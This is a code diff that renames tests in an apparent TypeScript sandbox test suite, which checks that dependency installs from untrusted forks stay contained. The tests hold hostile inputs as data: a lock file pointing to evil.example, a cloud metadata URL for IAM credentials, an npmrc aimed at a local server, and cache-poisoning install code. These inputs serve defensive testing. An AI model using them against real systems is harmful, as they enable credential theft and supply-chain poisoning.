@@ -50,7 +50,7 @@ async function runOn(name: string, number: number) {
   return { report, installed, harm: await range.harm() };
 }
 
-describe.skipIf(!available)('a set-up on a tree of a stranger’s', () => {
+describe.skipIf(!available)('a set-up on a stranger’s tree', () => {
   beforeAll(async () => {
     registry = await startNpmRegistry([
       { name: 'greeting', version: '1.0.0', files: { 'index.js': "module.exports = 'hello';\n" } },
@@ -77,7 +77,7 @@ describe.skipIf(!available)('a set-up on a tree of a stranger’s', () => {
     await registry.close();
   });
 
-  test.concurrent('a lock file that names another host', async () => {
+  test.concurrent('cannot reach another host named in a lock file', async () => {
     const elsewhere = { greeting: 'http://evil.example/greeting.tgz' };
     const { report, harm } = await fromFork('elsewhere', npmProject(registry, ['greeting'], elsewhere));
     expect(harm).toEqual(noHarm);
@@ -85,14 +85,14 @@ describe.skipIf(!available)('a set-up on a tree of a stranger’s', () => {
     expect(report).toContain('The set-up failed, and the run continued without it');
   });
 
-  test.concurrent('a lock file that names what a cloud tells its machines', async () => {
+  test.concurrent('cannot reach a cloud’s metadata service named in a lock file', async () => {
     const metadata = { greeting: 'http://169.254.169.254/latest/meta-data/iam' };
     const { report, harm } = await fromFork('metadata', npmProject(registry, ['greeting'], metadata));
     expect(harm).toEqual(noHarm);
     expect(report).toContain('The set-up wanted 169.254.169.254: refused');
   });
 
-  test.concurrent('settings of the package manager that name a server of this machine', async () => {
+  test.concurrent('cannot reach a server of this machine named in package manager settings', async () => {
     const { port } = range.listener;
     const npmrc = `registry=http://127.0.0.1:${port}/\nnoproxy=*\nproxy=null\nhttps-proxy=null\nignore-scripts=false\n`;
     const project = npmProject(registry, ['greeting'], { greeting: `http://127.0.0.1:${port}/greeting.tgz` });
@@ -100,7 +100,7 @@ describe.skipIf(!available)('a set-up on a tree of a stranger’s', () => {
     expect(harm).toEqual(noHarm);
   });
 
-  test.concurrent('a package with install scripts', async () => {
+  test.concurrent('runs no install script of a package', async () => {
     const build = `const fs = require('node:fs');
       const ran = fs.existsSync('node_modules/scripted/ran.txt');
       fs.writeFileSync('node_modules/greeting/index.js', fs.existsSync('node_modules/scripted') + ' ' + ran);`;
@@ -110,7 +110,7 @@ describe.skipIf(!available)('a set-up on a tree of a stranger’s', () => {
     expect({ installed: installed.includes('true false'), harm }).toEqual({ installed: true, harm: noHarm });
   });
 
-  test.concurrent('a build that looks for secrets, a way out and a way to others’ results', async () => {
+  test.concurrent('gives a build no secrets, no network and no results of others', async () => {
     const { file } = range.outside;
     const build = `
       const { readFileSync, writeFileSync, readdirSync } = require('node:fs');
@@ -133,7 +133,7 @@ describe.skipIf(!available)('a set-up on a tree of a stranger’s', () => {
     expect(installed).not.toContain(modelKey);
   });
 
-  test.concurrent('a result that was poisoned by what a run committed to a branch of ours', async () => {
+  test.concurrent('does not reuse a result poisoned by a run’s own commit', async () => {
     const files = npmProject(registry, ['scripted', 'greeting']);
     const poison = "require('fs').writeFileSync('node_modules/greeting/index.js', 'POISON');";
     const byRun = await range.openPull({
@@ -147,7 +147,7 @@ describe.skipIf(!available)('a set-up on a tree of a stranger’s', () => {
     expect({ said, harm: victim.harm }).toEqual({ said: ['POISON', 'hello'], harm: noHarm });
   });
 
-  test.concurrent('a result that was poisoned under the same lock file', async () => {
+  test.concurrent('does not reuse a poisoned result for another pull request or branch', async () => {
     const poison = "require('fs').writeFileSync('node_modules/greeting/index.js', 'POISON');";
     const poisoned = await fromFork('poison', { 'build.js': poison });
     const other = await fromFork('victim', { 'readme.txt': 'a\n' });
